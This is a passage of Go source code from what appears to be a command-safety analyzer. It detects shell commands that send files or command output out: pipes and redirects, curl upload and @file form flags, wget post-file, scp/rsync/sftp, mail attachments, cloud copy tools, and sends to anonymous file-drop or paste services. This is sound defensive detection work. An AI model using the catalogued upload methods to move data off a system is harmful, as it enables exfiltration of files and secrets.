	for h := host; h != ""; {
		if dropHosts.get()[h] {
			return host + ", an anonymous file-drop or paste service"
		}
		_, rest, ok := strings.Cut(h, ".")
		if !ok {
			break
		}
		h = rest
	}
	return ""
}

// sendsFileData reports a send whose payload is files or another command's output rather
// than text written in the request: a pipe or input redirect, curl -T/--upload-file, a form or
// body read from a file (@file, @-), scp/rsync/sftp copies, mail attachments.
func sendsFileData(s *Segment) bool {
	if s.PipeIn != nil && !emptyFeed(s.PipeIn) || hasInputRedirect(s) {
		return true
	}
	if _, ok := transferSink(s); ok {
		return true // rclone copy, aws s3 cp, gsutil cp of local files
	}
	switch s.Name() {
	case "scp", "rsync", "sftp":
		return true
	case "ffmpeg", "avconv":
		return streamInputsFiles(s)
	case "wget":
		_, ok := s.argPrefix("--post-file", "--body-file")
		return ok
	case "curl":
		if s.hasFlag("T", "--upload-file") {
			return true
		}
		for i, a := range s.Args {
			if i > 0 && strings.Contains(a, "@") && (s.Args[i-1] == "-F" || s.Args[i-1] == "--form" || s.Args[i-1] == "-d" || s.Args[i-1] == "--data" ||
				s.Args[i-1] == "--data-binary" || s.Args[i-1] == "--data-urlencode") && (strings.HasPrefix(a, "@") || strings.Contains(a, "=@")) {
				return true
			}
		}
	case "mail", "mailx", "s-nail", "mutt", "neomutt":
		return s.hasFlag("aA", "--attach")
	case "http", "https", "xh", "xhs":
		return httpieSendsFile(s)
	}
	return false
}

// httpMethod is the HTTP method an HTTP client segment names explicitly (curl -X, HTTPie's
// and xh's first word, wget --method), or "" when it names none.
func httpMethod(s *Segment) string {
	switch s.Name() {
	case "curl":
		m, _ := optValue(s.Args[1:], "-X", "--request")
		return m
	case "http", "https", "xh":
		return s.sub(0)
	case "wget":
		m, _ := optValue(s.Args[1:], "--method")
		return m
	}
	return ""
}
